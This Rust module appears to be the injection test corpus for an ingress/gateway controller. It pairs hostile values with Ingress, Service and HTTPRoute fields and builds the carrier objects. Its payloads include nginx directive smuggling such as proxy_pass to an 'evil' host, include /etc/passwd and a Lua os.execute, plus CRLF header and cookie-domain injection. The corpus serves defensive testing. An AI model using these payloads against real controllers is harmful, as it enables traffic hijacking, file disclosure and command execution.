//! The injection corpus of the `injection` trial (`corpus.rs`): each hostile value, where it
//! is put (an Ingress host, path, annotation or name, a Service, an HTTPRoute field), and the
//! objects that carry it. Pure data and builders.

use serde_json::{Value, json};

use super::{ingress_rule, labelled_service};

/// Where a hostile value is put.
#[derive(Clone, Copy, Debug)]
pub(super) enum Slot {
    IngressHost,
    IngressPath,
    /// An Ingress annotation with this key.
    Annotation(&'static str),
    /// An Ingress annotation with this key, beside a valid companion (key, value) so that the
    /// hostile value is the one checked.
    AnnotationWith(&'static str, (&'static str, &'static str)),
    ServiceHost,
    ServicePath,
    IngressName,
    ServiceName,
    Namespace,
    /// A field of an HTTPRoute attached to the Gateway `inj/gw` (issue 15).
    Route(RouteField),
}

/// Where in an HTTPRoute a hostile value is put.
#[derive(Clone, Copy, Debug)]
pub(super) enum RouteField {
    Name,
    Hostname,
    Path,
    HeaderName,
    HeaderValue,
    QueryName,
    QueryValue,
    Method,
    SetHeaderName,
    SetHeaderValue,
    ResponseHeaderValue,
    RedirectHostname,
    RedirectPath,
    RewriteHostname,
    RewritePrefix,
    BackendName,
}

/// (slot, value with `N` standing for the marker number).
pub(super) fn corpus() -> Vec<(Slot, String)> {
    use Slot::*;
    let long = "a".repeat(10 * 1024);
    let raw: Vec<(Slot, String)> = vec![
        (IngressHost, "xqN.com; return 200 pwned".into()),
        (IngressHost, "xqN.com}".into()),
        (IngressHost, "xqN.com{".into()),
        (IngressHost, "xqN.com\nserver { listen 81; }".into()),
        (IngressHost, "xqN.com\r\nX-Injected: y".into()),
        (IngressHost, "xqN.$host".into()),
        (IngressHost, "xqN.\"quoted\".com".into()),
        (IngressHost, "xqN.com#comment".into()),
        (IngressHost, "xqN.com\\".into()),
        (IngressHost, "xqN.com\t".into()),
        (IngressHost, "xqN com".into()),
        (IngressHost, "xqN.exa\u{301}mple.com".into()),
        (IngressHost, "xqN.\u{440}\u{430}ypal.com".into()),
        (IngressHost, "xqN.\u{202e}moc.live".into()),
        (
            IngressHost,
            "xqN.content_by_lua_block{os.execute('id')}".into(),
        ),
        (IngressHost, format!("xqN.{long}.com")),
        (IngressPath, "/xqN; proxy_pass http://evil".into()),
        (IngressPath, "/xqN { return 200 x; }".into()),
        (IngressPath, "/xqN}".into()),
        (IngressPath, "/xqN$request_uri".into()),
        (IngressPath, "/xqN\nlocation /x".into()),
        (IngressPath, "/xqN#".into()),
        (IngressPath, "/xqN\\bar".into()),
        (IngressPath, "/xqN'".into()),
        (IngressPath, "/xqN\"".into()),
        (IngressPath, "/xqN spaces".into()),
        (IngressPath, "/xqN\0".into()),
        (IngressPath, "~* /xqN.*".into()),
        (IngressPath, format!("/xqN/{long};")),
        (
            Annotation("berth.dev/rewrite-target"),
            "/xqN; return 200 pwned".into(),
        ),
        (Annotation("berth.dev/proxy-body-size"), "1m; xqN".into()),
        (Annotation("berth.dev/proxy-read-timeout"), "60s}xqN".into()),
        (
            Annotation("berth.dev/allow-source-range"),
            "10.0.0.0/8; allow all; #xqN".into(),
        ),
        (
            Annotation("berth.dev/backend-protocol"),
            "HTTP; lua_code_cache off; xqN".into(),
        ),
        (
            Annotation("berth.dev/configuration-snippet"),
            "xqN more_set_headers 'a: b';".into(),
        ),
        (
            Annotation("nginx.ingress.kubernetes.io/configuration-snippet"),
            "xqN more_set_headers 'a: b';".into(),
        ),
        (
            Annotation("nginx.ingress.kubernetes.io/auth-url"),
            "http://xqN.test/; return 200 pwned".into(),
        ),
        (
            Annotation("nginx.ingress.kubernetes.io/rewrite-target"),
            "/xqN; return 200 pwned".into(),
        ),
        (
            Annotation("nginx.ingress.kubernetes.io/auth-realm"),
            "xqN\"; return 200 pwned; #".into(),
        ),
        (
            Annotation("nginx.ingress.kubernetes.io/auth-secret"),
            "xqN;include /etc/passwd".into(),
        ),
        (
            Annotation("nginx.ingress.kubernetes.io/auth-type"),
            "basic\n}xqN".into(),
        ),
        (
            Annotation("nginx.ingress.kubernetes.io/auth-response-headers"),
            "X-User; proxy_pass http://evil; #xqN".into(),
        ),
        (
            Annotation("nginx.ingress.kubernetes.io/auth-method"),
            "GET; return 200 xqN".into(),
        ),
        (
            AnnotationWith(
                "nginx.ingress.kubernetes.io/auth-signin",
                ("nginx.ingress.kubernetes.io/auth-url", "http://auth.test/"),
            ),
            "https://xqN.test/start; return 302 http://evil".into(),
        ),
        (
            AnnotationWith(
                "berth.dev/auth-signin",
                ("berth.dev/auth-url", "http://auth.test/"),
            ),
            "https://login.test/$request_uri?xqN\r\nSet-Cookie: a=b".into(),
        ),
        (
            Annotation("nginx.ingress.kubernetes.io/backend-protocol"),
            "GRPCS; grpc_pass grpcs://xqN.test".into(),
        ),
        (
            Annotation("nginx.ingress.kubernetes.io/auth-signin-redirect-param"),
            "rd=$host&xqN".into(),
        ),
        (
            Annotation("nginx.ingress.kubernetes.io/permanent-redirect"),
            "https://xqN.test/; return 200 pwned".into(),
        ),
        (
            Annotation("nginx.ingress.kubernetes.io/temporal-redirect"),
            "https://a.test/$request_uri xqN".into(),
        ),
        (
            Annotation("nginx.ingress.kubernetes.io/app-root"),
            "/xqN { return 200; }".into(),
        ),
        (
            Annotation("nginx.ingress.kubernetes.io/upstream-vhost"),
            "xqN.test\"; proxy_pass http://evil".into(),
        ),
        (
            Annotation("nginx.ingress.kubernetes.io/force-ssl-redirect"),
            "true; xqN".into(),
        ),
        (
            Annotation("nginx.ingress.kubernetes.io/limit-rps"),
            "5 burst=1000; xqN".into(),
        ),
        (
            Annotation("nginx.ingress.kubernetes.io/limit-connections"),
            "1}xqN".into(),
        ),
        (
            Annotation("nginx.ingress.kubernetes.io/cors-allow-origin"),
            "https://xqN.test\" always; add_header X-Evil 1".into(),
        ),
        (
            Annotation("nginx.ingress.kubernetes.io/cors-allow-headers"),
            "X-A\"; return 200 xqN".into(),
        ),
        (
            Annotation("nginx.ingress.kubernetes.io/proxy-send-timeout"),
            "60s; xqN".into(),
        ),
        (
            Annotation("nginx.ingress.kubernetes.io/proxy-buffering"),
            "off; xqN".into(),
        ),
        (
            Annotation("nginx.ingress.kubernetes.io/denylist-source-range"),
            "10.0.0.0/8; allow all; #xqN".into(),
        ),
        (
            AnnotationWith(
                "nginx.ingress.kubernetes.io/custom-http-errors",
                ("nginx.ingress.kubernetes.io/default-backend", "web"),
            ),
            "503 = @xqN; return 200 pwned".into(),
        ),
        (
            AnnotationWith(
                "berth.dev/default-backend",
                ("berth.dev/custom-http-errors", "503"),
            ),
            "xqN; return 200 pwned".into(),
        ),
        (
            Annotation("nginx.ingress.kubernetes.io/affinity"),
            "cookie; xqN".into(),
        ),
        (
            AnnotationWith(
                "nginx.ingress.kubernetes.io/session-cookie-name",
                ("nginx.ingress.kubernetes.io/affinity", "cookie"),
            ),
            "xqN\"; add_header X-Injected 1; #".into(),
        ),
        (
            AnnotationWith(
                "berth.dev/session-cookie-max-age",
                ("berth.dev/affinity", "cookie"),
            ),
            "60; Domain=xqN.evil".into(),
        ),
        (
            AnnotationWith(
                "nginx.ingress.kubernetes.io/session-cookie-path",
                ("nginx.ingress.kubernetes.io/affinity", "cookie"),
            ),
            "/xqN; Domain=evil.test".into(),
        ),
        (
            AnnotationWith(
                "nginx.ingress.kubernetes.io/canary-weight",
                ("nginx.ingress.kubernetes.io/canary", "true"),
            ),
            "30%; xqN".into(),
        ),
        (
            AnnotationWith(
                "nginx.ingress.kubernetes.io/canary-by-header",
                ("nginx.ingress.kubernetes.io/canary", "true"),
            ),
            "X-xqN\" always; add_header X-Injected 1".into(),
        ),
        (
            AnnotationWith(
                "berth.dev/canary-by-header-value",
                ("berth.dev/canary-by-header", "X-C"),
            ),
            "xqN$|.*".into(),
        ),
        (
            AnnotationWith(
                "nginx.ingress.kubernetes.io/canary-by-cookie",
                ("nginx.ingress.kubernetes.io/canary", "true"),
            ),
            "xqN; default evil".into(),
        ),
        (ServiceHost, "xqN.svc.test; include /etc/passwd".into()),
        (ServicePath, "/xqN${upstream}".into()),
        (IngressName, "xqN;evil".into()),
        (IngressName, "xqN\u{1b}[31m".into()),
        (ServiceName, "xqN}".into()),
        (Namespace, "xqN ns".into()),
        (Route(RouteField::Name), "xqN;evil".into()),
        (
            Route(RouteField::Hostname),
            "xqN.test; return 200 pwned".into(),
        ),
        (Route(RouteField::Path), "/xqN { return 200 pwned; }".into()),
        (Route(RouteField::Path), "/_berth_gw/xqN".into()),
        (
            Route(RouteField::HeaderName),
            "X-xqN\"; return 200 pwned".into(),
        ),
        (Route(RouteField::HeaderValue), "xqN$|.*".into()),
        (Route(RouteField::HeaderValue), "xqN\"; default evil".into()),
        (Route(RouteField::QueryName), "xqN}".into()),
        (Route(RouteField::QueryValue), "xqN\n} server {".into()),
        (Route(RouteField::Method), "GET$|xqN".into()),
        (Route(RouteField::SetHeaderName), "X-A \"xqN\"".into()),
        (
            Route(RouteField::SetHeaderValue),
            "xqN\"; proxy_pass http://evil; #".into(),
        ),
        (Route(RouteField::SetHeaderValue), "xqN$request_uri".into()),
        (
            Route(RouteField::ResponseHeaderValue),
            "xqN\r\nX-Injected: 1".into(),
        ),
        (
            Route(RouteField::RedirectHostname),
            "xqN.test/$request_uri".into(),
        ),
        (
            Route(RouteField::RedirectPath),
            "/xqN$1 permanent; return 200 pwned".into(),
        ),
        (
            Route(RouteField::RewriteHostname),
            "xqN.test; proxy_pass http://evil".into(),
        ),
        (
            Route(RouteField::RewritePrefix),
            "/xqN break; return 200 pwned".into(),
        ),
        (Route(RouteField::BackendName), "xqN;evil".into()),
    ];
    raw.into_iter()
        .enumerate()
        .map(|(i, (slot, v))| (slot, v.replacen("xqN", &format!("xq{i}z"), 1)))
        .collect()
}

/// The object carrying `value` in `slot`; a valid name `inj-<i>` unless the name is the slot.
pub(super) fn carrier(i: usize, slot: Slot, value: &str, port: u16) -> Value {
    let name = format!("inj-{i}");
    let host = format!("inj-{i}.test");
    let ing = |ns: &str, name: &str, host: &str, path: &str| {
        ingress_rule(ns, name, host, &[(path, "Prefix", "web", port)])
    };
    match slot {
        Slot::IngressHost => ing("inj", &name, value, "/"),
        Slot::IngressPath => ing("inj", &name, &host, value),
        Slot::Annotation(key) => {
            let mut v = ing("inj", &name, &host, "/");
            v["metadata"]["annotations"] = json!({ key: value });
            v
        }
        Slot::AnnotationWith(key, (other, ok)) => {
            let mut v = ing("inj", &name, &host, "/");
            v["metadata"]["annotations"] = json!({ key: value, other: ok });
            v
        }
        Slot::ServiceHost => labelled_service("inj", &name, value, port),
        Slot::ServicePath => {
            let mut v = labelled_service("inj", &name, &host, port);
            v["metadata"]["annotations"]["berth.dev/path"] = json!(value);
            v
        }
        Slot::IngressName => ing("inj", value, &host, "/"),
        Slot::ServiceName => labelled_service("inj", value, &host, port),
        Slot::Namespace => ing(value, &name, &host, "/"),
        Slot::Route(field) => hostile_route(&name, &host, field, value, port),
    }
}

/// An HTTPRoute on the Gateway `inj/gw` with `value` in `field`.
pub(super) fn hostile_route(
    name: &str,
    host: &str,
    field: RouteField,
    value: &str,
    port: u16,
) -> Value {
    use RouteField::*;
    let mut m = json!({"path": {"type": "PathPrefix", "value": "/"}});
    let mut filters = json!([]);
    let mut backend = json!({"name": "web", "port": port});
    let (mut route_name, mut hostname) = (name.to_owned(), host.to_owned());
    match field {
        Name => route_name = value.to_owned(),
        Hostname => hostname = value.to_owned(),
        Path => m["path"]["value"] = json!(value),
        HeaderName => m["headers"] = json!([{"name": value, "value": "a"}]),
        HeaderValue => m["headers"] = json!([{"name": "X-A", "value": value}]),
        QueryName => m["queryParams"] = json!([{"name": value, "value": "a"}]),
        QueryValue => m["queryParams"] = json!([{"name": "a", "value": value}]),
        Method => m["method"] = json!(value),
        SetHeaderName | SetHeaderValue => {
            let (n, v) = if matches!(field, SetHeaderName) {
                (value, "a")
            } else {
                ("X-A", value)
            };
            filters = json!([{"type": "RequestHeaderModifier",
                              "requestHeaderModifier": {"set": [{"name": n, "value": v}]}}]);
        }
        ResponseHeaderValue => {
            filters = json!([{"type": "ResponseHeaderModifier",
                              "responseHeaderModifier": {"add": [{"name": "X-A", "value": value}]}}]);
        }
        RedirectHostname | RedirectPath => {
            let mut r = json!({"statusCode": 301});
            if matches!(field, RedirectHostname) {
                r["hostname"] = json!(value);
            } else {
                r["path"] = json!({"type": "ReplaceFullPath", "replaceFullPath": value});
            }
            filters = json!([{"type": "RequestRedirect", "requestRedirect": r}]);
        }
        RewriteHostname => {
            filters = json!([{"type": "URLRewrite", "urlRewrite": {"hostname": value}}]);
        }
        RewritePrefix => {
            filters = json!([{"type": "URLRewrite", "urlRewrite": {"path":
                {"type": "ReplacePrefixMatch", "replacePrefixMatch": value}}}]);
        }
        BackendName => backend["name"] = json!(value),
    }
    json!({"apiVersion": "gateway.networking.k8s.io/v1", "kind": "HTTPRoute",
           "metadata": {"name": route_name, "namespace": "inj"},
           "spec": {"parentRefs": [{"name": "gw"}], "hostnames": [hostname],
                    "rules": [{"matches": [m], "filters": filters, "backendRefs": [backend]}]}})
}

/// Our GatewayClass and the Gateway `inj/gw` the hostile routes attach to.
pub(super) fn gateway_api_base() -> [(&'static str, Value); 2] {
    [
        (
            "class",
            json!({"apiVersion": "gateway.networking.k8s.io/v1", "kind": "GatewayClass",
            "metadata": {"name": "berth"}, "spec": {"controllerName": "berth.dev/gateway"}}),
        ),
        (
            "gw",
            json!({"apiVersion": "gateway.networking.k8s.io/v1", "kind": "Gateway",
            "metadata": {"name": "gw", "namespace": "inj"},
            "spec": {"gatewayClassName": "berth",
                     "listeners": [{"name": "http", "port": 80, "protocol": "HTTP"}]}}),
        ),
    ]
}
